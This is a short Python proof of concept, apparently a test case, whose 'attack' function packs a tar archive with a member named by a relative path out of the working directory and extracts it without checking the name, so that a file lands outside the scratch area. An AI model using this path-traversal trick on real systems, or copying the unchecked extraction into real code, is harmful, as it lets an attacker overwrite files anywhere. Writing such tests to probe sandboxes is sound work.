# Unpacks an archive whose names climb out of scratch.
# proof: outside
import io
import os
import tarfile


def attack(arg):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        info = tarfile.TarInfo(os.path.relpath(arg["target"] + "/slipped"))
        archive.addfile(info, io.BytesIO())
    packed.seek(0)
    with tarfile.open(fileobj=packed) as archive:
        for member in archive:
            archive.makefile(member, os.path.join(os.getcwd(), member.name))
    return True
